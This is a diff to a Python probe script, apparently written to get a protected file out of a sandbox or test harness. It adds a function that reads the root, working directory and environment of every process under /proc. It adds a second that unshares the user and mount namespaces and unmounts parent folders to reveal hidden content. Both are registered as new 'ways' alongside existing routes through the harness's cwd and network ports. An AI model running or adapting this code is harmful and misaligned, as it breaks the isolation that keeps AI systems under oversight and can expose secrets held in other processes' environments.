@@ -3,6 +3,7 @@
 What it got into its hands is told in its answer: {"loot": [names of ways], "works": [...]}.
 """
 
+import ctypes
 import json
 import os
 import socket
@@ -100,6 +101,33 @@ class Browser:
         return self.value(script, session)
 
 
+def anybody(path):
+    """Something below any process that is to be seen: a root, a folder, an environment."""
+    seen = []
+    for process in Path("/proc").glob("[0-9]*"):
+        for way in (f"root{path}", f"cwd/{os.path.relpath(path, GOALS['cwd'])}", "environ"):
+            try:
+                seen.append(read(process / way))
+            except OSError:
+                continue
+    return " ".join(seen)
+
+
+def namespaces(path):
+    """What is hidden may show where the file system can be put together anew."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    here = os.fork()
+    if here == 0:
+        try:
+            libc.unshare(0x10000000 | 0x20000)
+            for folder in (Path(path), *Path(path).parents):
+                libc.umount2(str(folder).encode(), 2)
+            os._exit(WANTED not in read(path))
+        finally:
+            os._exit(1)
+    return WANTED if os.waitpid(here, 0)[1] == 0 else "nothing"
+
+
 def ways(order):
     key = GOALS["files"][0]
     for path in GOALS["files"]:
@@ -111,6 +139,8 @@ def ways(order):
         "folder of the harness",
         lambda: read(f"/proc/{HARNESS}/cwd/{os.path.relpath(key, GOALS['cwd'])}"),
     )
+    yield "root of anybody", lambda: anybody(key)
+    yield "unmounting", lambda: namespaces(key)
     for port in GOALS["ports"]:
         yield f"connect {port}", lambda port=port: ask(port)
     yield "datagram", lambda: datagram(GOALS["udp"])
